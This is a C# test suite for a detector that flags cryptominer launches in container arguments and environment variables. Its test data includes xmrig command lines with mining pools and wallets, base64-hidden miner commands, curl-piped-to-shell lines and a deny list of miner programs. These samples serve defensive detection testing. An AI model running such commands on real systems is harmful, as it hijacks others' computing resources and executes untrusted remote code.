using CsCheck;
using Davy.CloudRun;
using Davy.Detection;
using Davy.Indicators;

namespace Davy.Tests.Detection;

public sealed class CryptominingCommandsTests
{
    const string Wallet = "48abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJK";

    static readonly CryptominingCommands Detector = new();

    static Verdict Judge(Container container) => Assert.Single(Detector.Judge(Some.Deployment(container), IndicatorSet.Empty));

    static Verdict Judge(params IReadOnlyList<string> args) => Judge(Some.Container(args: args));

    static Verdict JudgeVariables(params IReadOnlyList<EnvironmentVariable> variables) => Judge(Some.Container() with { Environment = variables });

    static Davy.Detection.Match Found(Verdict verdict) => Assert.IsType<Verdict.Malicious>(verdict).Match;

    [Fact]
    public void EachContainerIsJudgedByItself()
    {
        var verdicts = Detector.Judge(Some.Deployment(Some.Container(), Some.Container(args: ["--donate-level=1"]), Some.Container(args: ["serve"])), IndicatorSet.Empty);

        Assert.Equal(["Clean", "Malicious", "Clean"], verdicts.Select(verdict => verdict.GetType().Name));
    }

    [Fact]
    public void AStrongSignalIsCertainAndSaysWhereItStood()
    {
        var match = Found(Judge("serve", "--donate-level", "1"));

        Assert.Equal(Certainty.Certain, match.Certainty);
        Assert.Equal("", match.WhyPossible);
        Assert.Equal("donate-flag", match.Indicator);
        Assert.Equal(MiningCommands.Default.List, match.List);
        Assert.Equal("", match.Repository);
        Assert.Null(match.Kind);
        Assert.Equal($"{Some.Specification}.args[1]", match.Place);
        Assert.Contains(match.Sources, source => source.Where == "https://github.com/xmrig/xmrig");
    }

    [Fact]
    public void SignalsStandInTheSameOrderWhereverTheyWereSeen()
    {
        string[] options = ["--donate-level=1", "stratum+tcp://mine.example.com:1", "--cpu-priority 5", "--nicehash"];

        var forward = Found(Judge(options)).Indicator;

        Assert.Equal("stratum-scheme, donate-flag, nicehash-flag, cpu-priority-flag", forward);
        Assert.Equal(forward, Found(Judge([.. options.Reverse()])).Indicator);
    }

    [Theory]
    [InlineData("--nicehash")]
    [InlineData("-o pool.example.com:3333")]
    [InlineData("--max-cpu-usage=90")]
    [InlineData("-u " + Wallet)]
    public void AMediumSignalIsNothingAlone(string args) => Assert.IsType<Verdict.Clean>(Judge(args.Split(' ')));

    [Fact]
    public void TwoMediumSignalsArePossible()
    {
        var match = Found(Judge("-o", "pool.example.com:3333", "-u", Wallet));

        Assert.Equal(Certainty.Possible, match.Certainty);
        Assert.NotEqual("", match.WhyPossible);
    }

    [Theory]
    [InlineData("--nicehash", "curl -s https://example.com/i.sh | sh")]
    [InlineData("--coin XMR", "--payout " + Wallet)]
    [InlineData("-o pool.example.com:3333", "sysctl vm.nr_hugepages=9")]
    [InlineData("-o pool.example.com:5432", "-u " + Wallet)]
    public void SignalsThatDoNotFitAreNotEachOthersCompany(string one, string other) => Assert.IsType<Verdict.Clean>(Judge(one, other));

    [Fact]
    public void APoolAndAWalletArePossibleThoughBothHaveOtherUses() =>
        Assert.Equal("pool-flag, wallet-ethereum", Found(Judge("-S", "pool.example.com:9999", "-O", "0x0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a.rig")).Indicator);

    [Fact]
    public void AMediumAndAWeakSignalArePossible() => Assert.Equal(Certainty.Possible, Found(Judge("--nicehash", "-t", "$(nproc)")).Certainty);

    [Fact]
    public void WeakSignalsAreNeverEnough() =>
        Assert.IsType<Verdict.Clean>(Judge("sh", "-c", "modprobe msr; sysctl vm.nr_hugepages=9; curl https://a.example.com | sh; x --cpu-priority 5 -t $(nproc) -u 0x0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a"));

    [Fact]
    public void OnePieceOfTextIsNotItsOwnCompany() => Assert.IsType<Verdict.Clean>(Judge("-o", "randomx.rplant.xyz:7166"));

    [Fact]
    public void WalletsAreNotEachOthersCompany() =>
        Assert.IsType<Verdict.Clean>(Judge("-u", Wallet, "-w", "0x0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a", "ZEPHs" + Wallet));

    [Theory]
    [InlineData("POOL.supportxmr.COM:3333", "pool")]
    [InlineData("ssl://u:p@pool.supportxmr.com:3333", "pool")]
    [InlineData("pool.supportxmr.com", "pool")]
    public void AKnownPoolIsEnough(string arg, string signal) => Assert.Equal(signal, Found(Judge(arg)).Indicator);

    [Theory]
    [InlineData("https://pool.supportxmr.com/")]
    [InlineData("ops@minexmr.com")]
    [InlineData("minexmr.com")]
    [InlineData("notsupportxmr.com:3333")]
    [InlineData("supportxmr.com.example.com:3333")]
    [InlineData("www.nanopool.org")]
    public void AMentionOfAPoolIsNot(string arg) => Assert.IsType<Verdict.Clean>(Judge(arg));

    [Theory]
    [InlineData("pkill xmrig")]
    [InlineData("while pgrep -x minerd; do sleep 1; done")]
    [InlineData("ps | grep xmrig | xargs kill")]
    [InlineData("alias xmrig='echo Blocked'")]
    [InlineData("echo \"0.0.0.0 pool.minexmr.com\" >> /etc/hosts")]
    [InlineData("rm -f /tmp/xmrig/xmrig")]
    public void WhatAScriptFightsIsNotWhatItDoes(string script) => Assert.IsType<Verdict.Clean>(Judge("sh", "-c", script));

    [Theory]
    [InlineData("pkill xmrig; ./xmrig -o 192.0.2.1:1")]
    [InlineData("pkill xmrig && ./job -o pool.minexmr.com:443")]
    [InlineData("grep -q don't /x | ./job --donate-level 1")]
    [InlineData("bash -c 'kill 1 | ./job --donate-level 1'")]
    [InlineData("grep $(./job -o stratum+tcp://192.0.2.1:3333) x")]
    public void AFightBesideItHidesNoMiner(string script) => Assert.Equal(Certainty.Certain, Found(Judge("sh", "-c", script)).Certainty);

    [Fact]
    public void AValueOfAnyVariableIsLookedAtButNoProgramIsSoughtThere()
    {
        Assert.Equal("donate-flag", Found(JudgeVariables(Some.Variable("EXTRA", "--donate-level 1"))).Indicator);
        Assert.IsType<Verdict.Clean>(JudgeVariables(Some.Variable("DENIED_PROCESS", "xmrig")));
    }

    [Fact]
    public void AVariableIsShownByNameWithItsPool()
    {
        var match = Found(JudgeVariables(Some.Variable("POOL_URL", "ssl://me:hidden@xmr.example.com:443"), Some.Variable("DONATE_LEVEL", "1")));

        Assert.Equal(["DONATE_LEVEL=1", "POOL_URL=ssl://…xmr.example.com:443"], match.Evidence.Select(evidence => evidence.Text));
    }

    [Fact]
    public void TextInBase64IsLookedInto()
    {
        var match = Found(Judge("sh", "-c", $"echo {Base64("nohup ./a -o pool.minexmr.com:443 -p hidden")} | base64 -d | sh"));

        Assert.Equal("decoded from base64", match.Transformation);
        Assert.Equal($"{Some.Specification}.args[2]", match.Place);
        Assert.Equal("…pool.minexmr.com:443…", match.Evidence[0].Text);
    }

    [Fact]
    public void WhatIsTooLongIsUndecidedUnlessWhatWasSeenIsEnough()
    {
        var tooLong = new string('x', CommandText.MaxLength + 1);

        Assert.Equal($"{Some.Specification}.args[1]", Assert.IsType<Verdict.Undecided>(Judge("a", tooLong)).Place);
        Assert.IsType<Verdict.Malicious>(Judge("--donate-level=1", tooLong));
        Assert.IsType<Verdict.Undecided>(JudgeVariables(Some.Variable("X", tooLong)));
    }

    /// <summary>The shell takes quotes away and puts values in; the finding shows what comes out, and where it stood.</summary>
    [Theory]
    [InlineData("cd /t; ./xmrig -o S3CRET", "…xmrig…")]
    [InlineData("cd /t; ./xm\"\"rig -o S3CRET", "…xmrig…")]
    [InlineData("A=xm; B=rig; ./$A$B -o S3CRET", "…xmrig…")]
    [InlineData("xmrig", "xmrig")]
    public void AProgramIsShownByItsName(string script, string shown)
    {
        var evidence = Found(Judge("sh", "-c", script)).Evidence[0];

        Assert.Equal((shown, $"{Some.Specification}.args[2]"), (evidence.Text, evidence.Place));
    }

    [Fact]
    public void AListOfManyProgramsInBase64IsNoScript()
    {
        Assert.IsType<Verdict.Clean>(JudgeVariables(Some.Variable("DENY", Base64("xmrig\nminerd\ncpuminer\nlolminer"))));
        Assert.IsType<Verdict.Malicious>(JudgeVariables(Some.Variable("RUN", Base64("./xmrig || ./minerd || ./cpuminer"))));
    }

    /// <summary>Each of these would take the reader long, or run out of stack or memory, if nothing bounded it.</summary>
    [Theory]
    [InlineData("echo 'sh f; sh f; sh f; sh f' > f; sh f", 1)]
    [InlineData("eval ", 12_000)]
    [InlineData("$(", 30_000)]
    [InlineData("`", 60_000)]
    [InlineData("(", 60_000)]
    [InlineData("\"$(", 20_000)]
    [InlineData("${", 30_000)]
    [InlineData("<<A ", 15_000)]
    [InlineData("<<A\n", 15_000)]
    [InlineData("case a in ", 6_000)]
    [InlineData("A=$A$A$A;", 7_000)]
    [InlineData("for a in b; do c $a; done;", 2_400)]
    [InlineData("sh -c '", 9_000)]
    [InlineData("x|", 30_000)]
    [InlineData("f(){", 15_000)]
    public void AHostileScriptIsReadInTime(string part, int times)
    {
        var script = string.Concat(Enumerable.Repeat(part, times)) + " pool kill";

        ProcessorTime.IsAtMost(seconds: 20, () => Assert.NotNull(Judge("sh", "-c", script)));
    }

    [Fact]
    public void WhatIsNestedTooDeepIsUndecided() =>
        Assert.Contains("scripts within scripts", Assert.IsType<Verdict.Undecided>(Judge("sh", "-c", "echo 'sh f' > f; sh f")).Reason, StringComparison.Ordinal);

    [Fact]
    public void NoSecretLeavesWithTheEvidence()
    {
        var container = Some.Container(args:
        [
            "S3CRET", "-o", "stratum+tcp://S3CRET:S3CRET@pool.minexmr.com:3333,S3CRET", "-u", Wallet + ".S3CRET:S3CRET", "-p", "S3CRET", "--donate-level=1;S3CRET", "-a", "rx/0", "S3CRET",
            "https://S3CRET:S3CRET@files.example.com/S3CRET/xmrig-6.tar.gz?token=S3CRET", "curl -H S3CRET https://S3CRET | sh", "{\"donate-level\": 1, \"pass\": \"S3CRET\", \"pools\": [{\"url\": \"S3CRET\"}]}",
            Base64("S3CRET --nicehash S3CRET -o S3CRET:S3CRET@mine.example.com:3333 S3CRET"), "/S3CRET/xmrig/S3CRET", "stratum://S3CRET@S3CRET@192.0.2.1:1", "-epool", "S3CRET",
        ]) with
        {
            Environment = [Some.Variable("POOL_URL", "tcp://S3CRET:S3CRET@pool.example.com:1234"), Some.Variable("POOL_USER", Wallet + "/S3CRET"), Some.Variable("RIG_ID", "S3CRET"), Some.Variable("KEY", "S3CRET --nicehash S3CRET")],
        };

        var match = Found(Judge(container));

        Assert.True(match.Evidence.Count > 10);
        Assert.DoesNotContain(match.Evidence, evidence => evidence.Text.Contains("S3CRET", StringComparison.Ordinal));
        Assert.DoesNotContain("S3CRET", match.ToString(), StringComparison.Ordinal);
    }

    /// <summary>Where an argument ends says nothing: options and values are cut in many ways.</summary>
    [Fact]
    public void AMinerIsFoundHoweverItsLineIsCutIntoArguments()
    {
        const string Line = "./a -a rx/0 -o stratum+tcp://mine.example.com:3333 -u w --donate-level 1";
        var words = Line.Split(' ');

        Gen.Int[1, words.Length - 1].Sample(cut => Judge(string.Join(' ', words[..cut]), string.Join(' ', words[cut..])) is Verdict.Malicious { Match.Certainty: Certainty.Certain }, iter: 100);
    }

    [Fact]
    public void AnyTextIsJudgedWithoutAFault() =>
        Gen.String.Array[0, 8].Sample(args => Judge([.. args, "'", "\"", "`|(;&$(", "://:@."]) is not null, iter: 2_000);

    /// <summary>Pieces of scripts in any mixture: nothing makes the reader fail.</summary>
    [Fact]
    public void AnyScriptIsReadWithoutAFault()
    {
        string[] pieces = ["'", "\"", "`", "$(", ")", "(", "|", ";", "&", "<", ">", "<<A", "\nA\n", "$'\\x", "\\", "${A:-", "}", "$A", "case ", " in ", "esac", "xmrig", " ", "=", "kill ", "sh -c ", "eval ", "#", "pool", "A=xmrig;"];

        Gen.Int[0, pieces.Length - 1].Select(index => pieces[index]).Array[0, 30].Sample(parts => Judge("bash", "-c", string.Concat(parts)) is not null, iter: 5_000);
    }

    static string Base64(string text) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(text));
}
